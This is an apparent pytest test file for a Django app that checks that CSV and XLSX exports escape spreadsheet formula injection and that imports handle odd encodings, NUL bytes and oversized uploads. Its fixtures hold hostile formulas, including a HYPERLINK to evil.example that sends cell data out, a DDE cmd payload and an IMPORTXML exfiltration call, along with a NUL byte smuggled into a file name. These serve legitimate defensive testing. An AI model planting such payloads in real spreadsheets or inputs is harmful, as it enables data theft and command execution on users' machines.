"""Issue 11: formula injection on the way out, encodings and NUL bytes on the way in."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from concerto.directory.models import Person, Structure
from concerto.interchange.exporter import FRENCH_EXCEL, export_tables, export_to_path, write_zip
from concerto.interchange.importer import import_file
from concerto.interchange.models import ImportJob
from concerto.interchange.schema import FORMULA_STARTS, escape_formula, unescape_formula
from concerto.poles.models import Pole
from concerto.reports.export import export
from concerto.reports.scope import Scope
from concerto.tasks.testing import run_queued_tasks

from .data import rich_association, wipe_association
from .helpers import valid_sheets, write_csv_folder

PAYLOADS = {
    "last_name": '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "profession": "=cmd|' /C calc'!A0",
    "first_name": "+33 6 12 34 56 78",
    "coordination_function": "-2+3",
    "phone": "@SUM(1+1)",
    "email": "",
}


def _hostile_association():
    objects = rich_association()
    person = Person.objects.get(ref="P-0001")
    for name, value in PAYLOADS.items():
        setattr(person, name, value)
    person.save()
    Structure.objects.filter(name="CSAPA L'Envol").update(name="=1+1 CSAPA")
    Pole.objects.filter(pk=objects["itv"].pole_id).update(name="=IMPORTXML(CONCAT(\"http://x/\",A2))")
    return objects


def _evaluated(value) -> bool:
    """Would a spreadsheet treat this CSV text as a formula?"""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def assert_no_formula_in_xlsx(data: bytes) -> int:
    """No formula cell in the workbook (openpyxl and the raw XML agree); returns the formula-like texts seen."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    workbook = load_workbook(io.BytesIO(data))  # not data_only: formulas would show as such
    seen = 0
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if _evaluated(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
                    seen += 1
    return seen


def test_escape_is_exactly_undone():
    for text in ["=1+1", "+33", "-", "@x", "\tx", "\rx", "'=x", "''", "'", "'x", "", "texte", "l'Envol"]:
        assert unescape_formula(escape_formula(text)) == text
        assert not _evaluated(escape_formula(text))
    assert escape_formula("=1+1") == "'=1+1" and escape_formula("l'Envol") == "l'Envol"


def test_interchange_xlsx_has_no_formula_and_round_trips(db, tmp_path):
    _hostile_association()
    first = export_tables()
    path = export_to_path(tmp_path / "export.xlsx")
    assert assert_no_formula_in_xlsx(path.read_bytes()) >= 6
    wipe_association()
    result = import_file(path)
    assert result.ok, [str(i) for i in result.issues]
    assert export_tables() == first
    person = Person.objects.get(ref="P-0001")
    assert {name: getattr(person, name) for name in PAYLOADS} == PAYLOADS


@pytest.mark.parametrize("dialect", ["standard", "french-excel"])
def test_interchange_csv_has_no_formula_and_round_trips(db, tmp_path, dialect):
    _hostile_association()
    first = export_tables()
    path = export_to_path(tmp_path / "export.zip", french_excel=dialect == "french-excel")
    encoding, delimiter = ("cp1252", ";") if dialect == "french-excel" else ("utf-8", ",")
    cells = 0
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode(encoding)
            for record in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
                for value in record:
                    assert not _evaluated(value), (name, value)
                    cells += value.startswith("'=")
    assert cells >= 3
    wipe_association()
    result = import_file(path)
    assert result.ok, [str(i) for i in result.issues]
    assert export_tables() == first
    assert Person.objects.get(ref="P-0001").profession == PAYLOADS["profession"]


def test_report_xlsx_has_no_formula(db):
    objects = _hostile_association()
    year = objects["itv"].date.year
    data = export(year, Scope.region(), "xlsx", include_free_text=True)
    assert assert_no_formula_in_xlsx(data) >= 1  # the pôle's name, at least


def test_export_download_has_no_formula(client, staff_user):
    _hostile_association()
    client.force_login(staff_user)
    assert assert_no_formula_in_xlsx(client.get(reverse("export-download") + "?format=xlsx").content) >= 6
    buffer = io.BytesIO()
    write_zip(buffer, None, FRENCH_EXCEL)
    assert b"'=cmd|" in zipfile.ZipFile(buffer).read("personnes.csv")


# --- encodings ---------------------------------------------------------------------------------

def _csv_text(sheets: dict, name: str, delimiter: str) -> str:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(sheets[name])
    return buffer.getvalue()


def test_utf16_unicode_text_from_excel_is_converted_with_a_notice(db, tmp_path):
    """Excel's « Texte Unicode »: UTF-16 LE with its BOM, tab-separated."""
    sheets = valid_sheets()
    folder = write_csv_folder(tmp_path / "u16", sheets)
    (folder / "personnes.csv").write_bytes(_csv_text(sheets, "personnes", "\t").encode("utf-16"))
    assert (folder / "personnes.csv").read_bytes()[:2] == b"\xff\xfe"
    result = import_file(folder)
    assert result.ok, [str(i) for i in result.issues]
    assert Person.objects.get(ref="P1").first_name == "Léa"
    assert any("personnes" in w and "UTF-16" in w for w in result.warnings), result.warnings


def test_utf16_without_bom_is_recognised(db, tmp_path):
    sheets = valid_sheets()
    folder = write_csv_folder(tmp_path / "u16", sheets)
    (folder / "personnes.csv").write_bytes(_csv_text(sheets, "personnes", "\t").encode("utf-16-le"))
    assert import_file(folder).ok
    assert Person.objects.get(ref="P1").first_name == "Léa"


@pytest.mark.parametrize(("encoding", "shown"), [("mac_roman", "Mac Roman"), ("cp1252", "Windows-1252")])
def test_eight_bit_files_are_converted_with_a_notice_not_mojibake(db, tmp_path, encoding, shown):
    sheets = valid_sheets()
    sheets["personnes"][1][1:3] = ["Lefèvre", "Éloïse"]
    sheets["personnes"][2][2] = "François"
    folder = write_csv_folder(tmp_path / encoding, sheets, delimiter=";", encoding=encoding)
    result = import_file(folder)
    assert result.ok, [str(i) for i in result.issues]
    assert (Person.objects.get(ref="P1").last_name, Person.objects.get(ref="P1").first_name) == ("Lefèvre", "Éloïse")
    assert Person.objects.get(ref="P2").first_name == "François"
    notices = [w for w in result.warnings if shown in w]
    assert notices and "vérifiez les accents" in notices[0]


def test_undecodable_file_is_refused_clearly(db, tmp_path):
    path = tmp_path / "structures.csv"
    path.write_bytes("structure,type\n数据导入测试 中文名称,CSAPA\n".encode("gbk"))  # neither French nor UTF-8
    result = import_file(path)
    assert not result.ok
    assert "Encodage du fichier non reconnu" in result.issues[0].message


def test_nul_byte_is_refused_with_its_place(db, tmp_path):
    path = tmp_path / "personnes.csv"
    path.write_bytes(b"id_personne,nom,categorie\nP1,Du\x00rand,Pharmaciens\n")
    result = import_file(path)
    assert not result.ok and not result.written
    message = result.issues[0].message
    assert "ligne 2" in message and "colonne n° 2" in message and "caractère nul" in message


def test_nul_byte_job_ends_refused_and_stores_its_message(client, staff_user, settings, tmp_path):
    """The job's JSON reaches PostgreSQL (which refuses \\u0000) and the page says why, never « en cours »."""
    settings.MEDIA_ROOT = tmp_path / "media"
    client.force_login(staff_user)
    data = b"id_personne,nom,categorie\nP1,Du\x00rand,Pharmaciens\n"
    response = client.post(reverse("import-upload"), {"file": SimpleUploadedFile("per\x00sonnes.csv", data)})
    assert response.status_code in (302, 400)
    if response.status_code == 400:  # the NUL of the file name, refused at the door
        response = client.post(reverse("import-upload"), {"file": SimpleUploadedFile("personnes.csv", data)})
    run_queued_tasks()  # the worker's loop, in this process
    job = ImportJob.objects.get()
    assert job.status == ImportJob.Status.INVALID
    page = client.get(reverse("import-job", args=[job.pk])).content.decode()
    assert "caractère nul" in page and "Vérification en cours" not in page


def test_upload_over_the_size_limit_is_refused_in_french(client, staff_user, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.INTERCHANGE_MAX_UPLOAD_BYTES = 1024
    client.force_login(staff_user)
    response = client.post(reverse("import-upload"), {"file": SimpleUploadedFile("gros.csv", b"x" * 2048)})
    assert response.status_code == 200
    assert "Fichier trop volumineux" in response.content.decode()
    assert not ImportJob.objects.exists()


def test_an_upload_far_over_the_limit_is_refused_before_being_read(client, staff_user, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.INTERCHANGE_MAX_UPLOAD_BYTES = 1024
    client.force_login(staff_user)
    big = SimpleUploadedFile("historique.zip", b"x" * (2 * 1024 * 1024))
    response = client.post(reverse("import-upload"), {"file": big})
    assert response.status_code == 413
    assert "Fichier trop volumineux (2 Mo) : au plus 1 Ko" in response.content.decode()
    assert not ImportJob.objects.exists()
